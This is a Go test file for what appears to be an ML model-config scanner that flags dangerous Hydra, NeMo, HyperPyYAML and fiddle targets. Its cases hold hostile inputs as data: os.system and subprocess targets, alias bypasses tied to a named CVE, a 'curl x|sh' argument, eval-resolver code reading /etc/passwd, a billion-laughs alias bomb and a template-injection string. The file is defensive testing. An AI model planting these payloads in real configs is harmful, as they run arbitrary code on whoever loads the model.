package hydra_test

import (
	"bytes"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/modelvet/modelvet/formats"
	_ "github.com/modelvet/modelvet/formats/all"
	"github.com/modelvet/modelvet/formats/formatstest"
	"github.com/modelvet/modelvet/formats/hydra"
)

func TestJudge(t *testing.T) {
	cases := []struct {
		name, target string
		want         hydra.Verdict
	}{
		{"nemo conformer encoder", "nemo.collections.asr.modules.ConformerEncoder", hydra.Safe},
		{"torch layer", "torch.nn.Linear", hydra.Safe},
		{"torch optimizer", "torch.optim.AdamW", hydra.Safe},
		{"megatron activation function", "torch.nn.functional.gelu", hydra.Safe},
		{"transformers config class", "transformers.LlamaConfig", hydra.Safe},
		{"lightning callback", "lightning.pytorch.callbacks.ModelCheckpoint", hydra.Safe},
		{"os.system", "os.system", hydra.Dangerous},
		{"subprocess.Popen", "subprocess.Popen", hydra.Dangerous},
		{"subprocess.check_output", "subprocess.check_output", hydra.Dangerous},
		{"builtins.eval", "builtins.eval", hydra.Dangerous},
		{"builtins.exec", "builtins.exec", hydra.Dangerous},
		{"bare eval", "eval", hydra.Dangerous},
		{"timeit bypass of hydra 1.3.4 blocklist", "timeit.timeit", hydra.Dangerous},
		{"os.path alias of os", "os.path.os.system", hydra.Dangerous},
		{"posixpath alias of os", "posixpath.os.system", hydra.Dangerous},
		{"ntpath alias of os", "ntpath.os.system", hydra.Dangerous},
		{"operator.methodcaller gadget", "operator.methodcaller", hydra.Dangerous},
		{"private alias tempfile._os", "tempfile._os.system", hydra.Dangerous},
		{"module re-export in a safe package", "torch.nn.modules.module.os.system", hydra.Dangerous},
		{"nemo path reaching subprocess", "nemo.collections.asr.parts.utils.subprocess.run", hydra.Dangerous},
		{"pickle loader", "pickle.loads", hydra.Dangerous},
		{"torch.load", "torch.load", hydra.Dangerous},
		{"importlib", "importlib.import_module", hydra.Dangerous},
		{"hydra re-entry", "hydra.utils.instantiate", hydra.Dangerous},
		{"runpy", "runpy.run_path", hydra.Dangerous},
		{"webbrowser", "webbrowser.open", hydra.Dangerous},
		{"socket", "socket.create_connection", hydra.Dangerous},
		{"shutil", "shutil.rmtree", hydra.Dangerous},
		{"classmethod that fetches models", "transformers.AutoModel.from_pretrained", hydra.Unknown},
		{"nemo restore_from loads another archive", "nemo.collections.asr.models.ASRModel.restore_from", hydra.Unknown},
		{"third-party class", "mypkg.models.Net", hydra.Unknown},
		{"dunder in a safe package", "torch.nn.Linear.__init__", hydra.Dangerous},
		{"private module in a safe package", "torch.nn._Private", hydra.Unknown},
		{"interpolated target", "${oc.env:TARGET}", hydra.Computed},
		{"NeMo transformer factory (Canary)", "nemo.collections.asr.modules.transformer.get_nemo_transformer", hydra.Safe},
		{"NeMo TTS text normalizer", "nemo_text_processing.text_normalization.normalize.Normalizer", hydra.Safe},
		{"NeMo 2 optimizer module", "nemo.lightning.MegatronOptimizerModule", hydra.Safe},
		{"bare name NeMo resolves itself (MagpieTTS)", "AutoTokenizer", hydra.Bare},
		{"bare denied module", "antigravity", hydra.Dangerous},
		{"not a path (NeMo SpeakerNet example)", "from nemo.collections.common.losses.CrossEntropyLoss", hydra.Invalid},
		{"not a path but names a denied call", "x; os.system", hydra.Dangerous},
		{"relative interpolation", "${..cls}", hydra.Computed},
		{"SpeechBrain window function (torch.hamming_window)", "torch.hamming_window", hydra.Safe},
		{"SpeechBrain reduction (torch.sum)", "torch.sum", hydra.Safe},
		{"SpeechBrain condition (operator.not_)", "operator.not_", hydra.Safe},
		{"SpeechBrain G2P helper (lazy_init)", "speechbrain.lobes.models.g2p.dataio.lazy_init", hydra.Safe},
		{"torch top-level function that loads TorchScript from a file", "torch.import_ir_module", hydra.Unknown},
		{"torch top-level function that imports by name", "torch.set_default_tensor_type", hydra.Unknown},
		{"operator.attrgetter gadget", "operator.attrgetter", hydra.Dangerous},
		{"operator.call", "operator.call", hydra.Dangerous},
		{"torch.from_file maps a file", "torch.from_file", hydra.Dangerous},
		{"a pure-function name under another module", "os.sum", hydra.Dangerous},
		{"a pure-function name under a third-party module", "acme.hamming_window", hydra.Unknown},
	}
	o := formats.DefaultOptions()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := hydra.Judge(c.target, &o); got != c.want {
				t.Errorf("Judge(%q) = %v, want %v", c.target, got, c.want)
			}
		})
	}
}

func TestYAMLConfigs(t *testing.T) {
	cases := []struct {
		name, file, src string
		want            []string // rules at high or above
	}{
		{"nemo os.system target", "model_config.yaml", "encoder:\n  _target_: os.system\n  command: id\n", []string{"hydra/dangerous-target"}},
		{"CVE-2025-23304 alias bypass", "model_config.yaml", "preprocessor:\n  _target_: posixpath.os.system\n  _args_: [\"curl x|sh\"]\n", []string{"hydra/dangerous-target"}},
		{"NeMo root target importing os.system", "model_config.yaml", "target: os.system\nencoder:\n  _target_: torch.nn.Linear\n", []string{"hydra/dangerous-target"}},
		{"NeMo nested target under preprocessor (from_config_dict import_class_by_path)", "model_config.yaml", "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  target: posixpath.os.system\n  n_mels: 80\n", []string{"hydra/dangerous-target"}},
		{"NeMo nested target of unknown code under decoder", "model_config.yaml", "decoder:\n  target: acme.Backdoor\n", []string{"hydra/unknown-target"}},
		{"NeMo Hydra 0.x cls under encoder (renamed to _target_)", "model_config.yaml", "encoder:\n  cls: subprocess.Popen\n  params:\n    args: [id]\n", []string{"hydra/dangerous-target"}},
		{"NeMo Hydra 0.x params carrying a _target_ under optim.sched", "model_config.yaml", "optim:\n  name: adamw\n  sched:\n    cls: torch.optim.lr_scheduler.StepLR\n    params:\n      _target_: builtins.exec\n", []string{"hydra/dangerous-target"}},
		{"NeMo cls beside a _target_ is judged too (loaders differ on which counts)", "model_config.yaml", "encoder:\n  _target_: torch.nn.Linear\n  cls: os.system\n", []string{"hydra/dangerous-target"}},
		{"NeMo nested target in a list of sub-configs", "model_config.yaml", "losses:\n  - target: torch.nn.CTCLoss\n  - target: builtins.eval\n", []string{"hydra/dangerous-target"}},
		{"NeMo non-string target value (a number) is data", "model_config.yaml", "loss:\n  target: 0.5\n  cls: 10\n", nil},
		{"target key outside a NeMo config is data", "config.yaml", "metric:\n  target: os.system\n", nil},
		{"real-shaped NeMo sub-configs with targets", "model_config.yaml", "target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\nspec_augment:\n  target: nemo.collections.asr.modules.SpectrogramAugmentation\nencoder:\n  cls: nemo.collections.asr.modules.ConformerEncoder\n  params:\n    n_layers: 16\noptim:\n  name: adamw\n  sched:\n    name: CosineAnnealing\n    warmup_steps: 1000\n", nil},
		{"partial timeit", "config.yaml", "cb:\n  _target_: timeit.timeit\n  _partial_: true\n  stmt: __import__('os').system('id')\n", []string{"hydra/dangerous-target"}},
		{"nested under a list", "config.yml", "layers:\n  - _target_: torch.nn.Linear\n  - _target_: builtins.exec\n    _args_: ['import os']\n", []string{"hydra/dangerous-target"}},
		{"target through an anchor", "config.yaml", "base: &b\n  _target_: subprocess.call\nmodel:\n  <<: *b\n", []string{"hydra/dangerous-target"}},
		{"target value through an alias", "config.yaml", "t: &t os.system\nm:\n  _target_: *t\n", []string{"hydra/dangerous-target"}},
		{"escaped key", "config.yaml", "m:\n  \"\\x5ftarget_\": os.system\n", []string{"hydra/dangerous-target"}},
		{"explicit key joined by an escaped line break", "config.yaml", "m:\n  ? \"_tar\\\n    get_\"\n  : os.system\n", []string{"hydra/dangerous-target"}},
		{"unparsable with a key joined by an escaped line break", "config.yaml", "m:\n  \"_tar\\\n  get_\": [os.system\n", []string{"hydra/unparsable-config"}},
		{"unknown class", "config.yaml", "m:\n  _target_: evil_pkg.Loader\n", []string{"hydra/unknown-target"}},
		{"computed target", "config.yaml", "m:\n  _target_: ${oc.env:CLS}\n", []string{"hydra/computed-target"}},
		{"duplicate target key", "config.yaml", "m:\n  _target_: torch.nn.Linear\n  _target_: os.system\n", []string{"hydra/dangerous-target", "hydra/duplicate-key"}},
		{"lightning class_path", "config.yaml", "trainer:\n  callbacks:\n    - class_path: os.system\n      init_args: {command: id}\n", []string{"hydra/dangerous-target"}},
		{"two documents", "config.yaml", "m:\n  _target_: torch.nn.Linear\n---\nm:\n  _target_: os.system\n", []string{"hydra/ambiguous-config", "hydra/dangerous-target"}},
		{"unparsable with target", "config.yaml", "m:\n  _target_: [os.system\n", []string{"hydra/unparsable-config"}},
		{"alias bomb", "config.yaml", aliasBomb(), nil},
		{"plain yaml without targets", "labels.yaml", "names:\n  0: cat\n  1: dog\n", nil},
		{"NeMo 2 context/model.yaml references", "model.yaml", "_target_: nemo.collections.llm.gpt.model.base.GPTModel\nconfig:\n  _target_: nemo.collections.llm.gpt.model.base.GPTConfig\n  activation_func:\n    _call_: false\n    _target_: torch._C._nn.gelu\n  forward_step_fn:\n    _call_: false\n    _target_: nemo.collections.llm.gpt.model.base.gpt_forward_step\n  params_dtype:\n    _call_: false\n    _target_: torch.float32\n", nil},
		{"reference to a dangerous function", "model.yaml", "cfg:\n  activation_func:\n    _call_: false\n    _target_: os.system\n", []string{"hydra/dangerous-target"}},
		{"reference to unknown code", "model.yaml", "cfg:\n  fn:\n    _call_: false\n    _target_: acme.hooks.run_hook\n", []string{"hydra/unknown-target"}},
		{"HyperPyYAML !apply:os.system (SpeechBrain hyperparams.yaml)", "hyperparams.yaml", "x: !apply:os.system [id]\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !new: of unknown code", "hyperparams.yaml", "enc: !new:acme.Backdoor\n  n: 1\n", []string{"hydra/unknown-target"}},
		{"HyperPyYAML !name: reference to subprocess", "hyperparams.yaml", "fn: !name:subprocess.check_output\n", []string{"hydra/dangerous-target"}},
		{"real-shaped SpeechBrain ECAPA hyperparams", "hyperparams.yaml", speechbrainECAPA, nil},
		// HyperPyYAML's !new: checks inspect.isclass before it calls, so a
		// lower-case class name of a safe package is a class (SpeechBrain's
		// mBART recipe) and a classmethod there is refused before any call.
		{"HyperPyYAML !new: lower-case class of a safe package (SpeechBrain mBART)", "hyperparams.yaml", "mbart: !new:speechbrain.integrations.huggingface.mbart.mBART\n  source: facebook/mbart-large-50\n", nil},
		{"HyperPyYAML !new: of a classmethod is refused by the loader", "hyperparams.yaml", "m: !new:transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: x\n", nil},
		{"HyperPyYAML !apply: of the same classmethod runs it", "hyperparams.yaml", "m: !apply:transformers.AutoModel.from_pretrained\n  pretrained_model_name_or_path: x\n", []string{"hydra/unknown-target"}},
		{"HyperPyYAML !new: of a denied class", "hyperparams.yaml", "p: !new:subprocess.Popen\n  args: [id]\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !new: through a safe package to os", "hyperparams.yaml", "p: !new:torch.nn.modules.module.os.system\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !name: of a constant (SpeechBrain cache_folder)", "train.yaml", "cache_folder: !name:huggingface_hub.constants.HUGGINGFACE_HUB_CACHE\n", nil},
		{"HyperPyYAML !name: of a module imported by the constants module", "train.yaml", "f: !name:huggingface_hub.constants.os.system\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !name: of a function of the constants module", "train.yaml", "f: !name:huggingface_hub.constants._is_true\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !apply: of a constant is still judged as a call", "train.yaml", "f: !apply:huggingface_hub.constants.ENDPOINT\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !name: of a download function", "train.yaml", "f: !name:huggingface_hub.hf_hub_download\n", []string{"hydra/dangerous-target"}},
		{"HyperPyYAML !name: of a torch function that loads code", "hyperparams.yaml", "w: !name:torch.import_ir_module\n", []string{"hydra/unknown-target"}},
		{"real-shaped SpeechBrain enhancement recipe (window_fn, operator.not_)", "train.yaml", "window_fn: !name:torch.hamming_window\nsum_batch: !name:torch.sum\nskip: !apply:operator.not_ [True]\n", nil},
		{"eval resolver running Python", "config.yaml", "lr: ${eval:'__import__(\"os\").system(\"id\")'}\n", []string{"hydra/eval-resolver"}},
		{"eval resolver calling a name", "config.yaml", "n: ${eval:'open(\"/etc/passwd\").read()'}\n", []string{"hydra/eval-resolver"}},
		{"eval resolver doing arithmetic is real", "config.yaml", "a: 4\nb: ${eval:'${a} * 2 + 1'}\nc: ${multiply:${a},3}\n", nil},
		{"safe targets", "config.yaml", "m:\n  _target_: torch.nn.Sequential\n  _args_:\n    - _target_: torch.nn.ReLU\n", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := formatstest.ScanBytes(t, c.file, []byte(c.src), nil)
			got := formatstest.Rules(r, formats.High)
			slices.Sort(got)
			got = slices.Compact(got)
			want := append([]string(nil), c.want...)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("rules = %v, want %v\n%s", got, want, formatstest.Describe(r))
			}
		})
	}
}

// aliasBomb is a billion-laughs document: nine levels of nine aliases.
func aliasBomb() string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i < 9; i++ {
		b.WriteString("a" + string(rune('0'+i)) + ": &a" + string(rune('0'+i)) + " [")
		for j := 0; j < 9; j++ {
			if j > 0 {
				b.WriteString(", ")
			}
			b.WriteString("*a" + string(rune('0'+i-1)))
		}
		b.WriteString("]\n")
	}
	return b.String()
}

// TestRealShapedConfigs: configs shaped like published ones stay clean.
func TestRealShapedConfigs(t *testing.T) {
	data, err := os.ReadFile("testdata/conformer_ctc_model_config.yaml")
	if err != nil {
		t.Fatal(err)
	}
	r := formatstest.ScanBytes(t, "model_config.yaml", data, nil)
	if got := formatstest.Rules(r, formats.Low); len(got) != 0 {
		t.Errorf("NeMo conformer config: %v\n%s", got, formatstest.Describe(r))
	}
	hf := `{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096, "target_modules": ["q_proj"], "torch_dtype": "bfloat16"}`
	r = formatstest.ScanBytes(t, "config.json", []byte(hf), nil)
	if got := formatstest.Rules(r, formats.Low); len(got) != 0 {
		t.Errorf("HF config: %v\n%s", got, formatstest.Describe(r))
	}
}

func TestJSONConfigs(t *testing.T) {
	cases := []struct {
		name, src string
		want      []string
	}{
		{"HF config.json with a _target_", `{"model_type": "x", "head": {"_target_": "os.system", "command": "id"}}`, []string{"hydra/dangerous-target"}},
		{"escaped key", `{"m": {"\u005ftarget_": "subprocess.run"}}`, []string{"hydra/dangerous-target"}},
		{"unknown", `{"m": {"_target_": "acme.Model"}}`, []string{"hydra/unknown-target"}},
		{"safe", `{"m": {"_target_": "torch.nn.Linear", "in_features": 4}}`, nil},
		{"vocabulary key named _target_ is data", `{"vocab": {"_target_": 17}}`, nil},
		{"real-shaped NeMo 2 context/io.json", fiddleIO(`{"type": "pyref", "module": "nemo.collections.llm.gpt.model.llama", "name": "LlamaModel"}`), nil},
		{"fiddle pyref to subprocess.Popen", fiddleIO(`{"type": "pyref", "module": "subprocess", "name": "Popen"}`), []string{"hydra/dangerous-target"}},
		{"fiddle pyref keys in another order", fiddleIO(`{"name": "system", "module": "posixpath.os", "type": "pyref"}`), []string{"hydra/dangerous-target"}},
		{"fiddle pyref to unknown code", fiddleIO(`{"type": "pyref", "module": "acme.hooks", "name": "Loader"}`), []string{"hydra/unknown-target"}},
		{"tokenizer.json type keys are not pyrefs", `{"pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": false}, "model": {"type": "BPE", "name": "x"}}`, nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := formatstest.ScanBytes(t, "config.json", []byte(c.src), nil)
			got := formatstest.Rules(r, formats.High)
			if !slices.Equal(got, c.want) {
				t.Errorf("rules = %v, want %v\n%s", got, c.want, formatstest.Describe(r))
			}
		})
	}
}

func FuzzHydraYAML(f *testing.F) {
	if b, err := os.ReadFile("testdata/conformer_ctc_model_config.yaml"); err == nil {
		f.Add(b)
	}
	f.Add([]byte("m:\n  _target_: posixpath.os.system\n  _args_: [id]\n"))
	f.Add([]byte(aliasBomb()))
	f.Add([]byte("a: &a {_target_: *a, <<: *a}\n"))
	f.Add([]byte("? [_target_]\n: x\n\"\\x5ftarget_\": os.system\n---\n- 1\n"))
	f.Add([]byte("mbart: !new:speechbrain.integrations.huggingface.mbart.mBART\n  source: x\nw: !name:torch.hamming_window\nn: !apply:operator.not_ [True]\n"))
	f.Add([]byte("jobs:\n  b:\n    env:\n      R: ${{ vars.AWS_REGION }}\n"))
	o := formats.DefaultOptions()
	o.Hash = false
	f.Fuzz(func(t *testing.T, b []byte) {
		formats.ScanReader("model_config.yaml", bytes.NewReader(b), int64(len(b)), &o)
		formats.ScanReader("config.json", bytes.NewReader(b), int64(len(b)), &o)
	})
}

// BenchmarkHydraYAML scans a 1 MB config made of many real-shaped NeMo
// module blocks with targets.
func BenchmarkHydraYAML(b *testing.B) {
	var buf bytes.Buffer
	for i := 0; buf.Len() < 1<<20; i++ {
		fmt.Fprintf(&buf, "block%d:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n  n_layers: 16\n  d_model: 176\n  att_context_size: [-1, -1]\n  sub:\n    _target_: torch.nn.Linear\n    in_features: 4\n", i)
	}
	data := buf.Bytes()
	o := formats.DefaultOptions()
	o.Hash = false
	b.SetBytes(int64(len(data)))
	for range b.N {
		formats.ScanReader("model_config.yaml", bytes.NewReader(data), int64(len(data)), &o)
	}
}

// TestTemplateChecksStillRun: this package's YAML analyzer outranks the
// chat-template one and hands it the same bytes (analyzer.go); if that
// hand-over broke, YAML configs would lose their template checks.
func TestTemplateChecksStillRun(t *testing.T) {
	src := "chat_template: \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\nmodel:\n  _target_: os.system\n"
	r := formatstest.ScanBytes(t, "serving.yaml", []byte(src), nil)
	var tmpl, hyd bool
	for _, f := range r.Findings {
		tmpl = tmpl || strings.HasPrefix(f.Rule, "template/") && f.Severity >= formats.High
		hyd = hyd || f.Rule == "hydra/dangerous-target"
	}
	if !tmpl || !hyd {
		t.Errorf("template finding %v, hydra finding %v\n%s", tmpl, hyd, formatstest.Describe(r))
	}
}

// speechbrainECAPA is shaped like speechbrain/spkrec-ecapa-voxceleb's
// hyperparams.yaml.
const speechbrainECAPA = `pretrained_path: speechbrain/spkrec-ecapa-voxceleb
n_mels: 80
emb_dim: 192
seed: 1986
__set_seed: !apply:torch.manual_seed [!ref <seed>]
compute_features: !new:speechbrain.lobes.features.Fbank
    n_mels: !ref <n_mels>
mean_var_norm: !new:speechbrain.processing.features.InputNormalization
    norm_type: sentence
    std_norm: False
embedding_model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN
    input_size: !ref <n_mels>
    channels: [1024, 1024, 1024, 1024, 3072]
    kernel_sizes: [5, 3, 3, 3, 1]
    dilations: [1, 2, 3, 4, 1]
    attention_channels: 128
    lin_neurons: 192
classifier: !new:speechbrain.lobes.models.ECAPA_TDNN.Classifier
    input_size: 192
    out_neurons: 7205
mean_var_norm_emb: !new:speechbrain.processing.features.InputNormalization
    norm_type: global
    std_norm: False
modules:
    compute_features: !ref <compute_features>
    mean_var_norm: !ref <mean_var_norm>
    embedding_model: !ref <embedding_model>
label_encoder: !new:speechbrain.dataio.encoder.CategoricalEncoder
pretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer
    loadables:
        embedding_model: !ref <embedding_model>
        classifier: !ref <classifier>
    paths:
        embedding_model: !ref <pretrained_path>/embedding_model.ckpt
        classifier: !ref <pretrained_path>/classifier.ckpt
`

// fiddleIO is shaped like fiddle's dump_json of a NeMo 2 model config
// (context/io.json): a Config whose function is fn, with a dtype, an
// activation function and a tuple among its arguments.
func fiddleIO(fn string) string {
	return `{
  "root": {"type": "ref", "key": "config_1"},
  "objects": {
    "config_1": {
      "type": {"type": "pyref", "module": "fiddle._src.config", "name": "Config"},
      "items": [
        ["Attr(name='params_dtype')", {"type": "pyref", "module": "torch", "name": "bfloat16"}],
        ["Attr(name='activation_func')", {"type": "pyref", "module": "torch.nn.functional", "name": "silu"}],
        ["Attr(name='shape')", {"type": "ref", "key": "tuple_2"}]
      ],
      "metadata": {"type": "ref", "key": "buildable_traverser_metadata_1"},
      "paths": ["<root>"]
    },
    "tuple_2": {
      "type": {"type": "pyref", "module": "builtins", "name": "tuple"},
      "items": [["Index(index=0)", {"type": "leaf", "value": 4096, "paths": ["<root>.shape[0]"]}]],
      "metadata": null,
      "paths": ["<root>.shape"]
    },
    "buildable_traverser_metadata_1": {
      "type": {"type": "pyref", "module": "fiddle._src.config", "name": "BuildableTraverserMetadata"},
      "items": [["Attr(name='fn_or_cls')", ` + fn + `]],
      "metadata": {"type": "pyref", "module": "fiddle._src.config", "name": "BuildableTraverserMetadata"},
      "paths": []
    }
  },
  "refcounts": {"config_1": 1, "tuple_2": 1},
  "version": "0.0.1"
}`
}
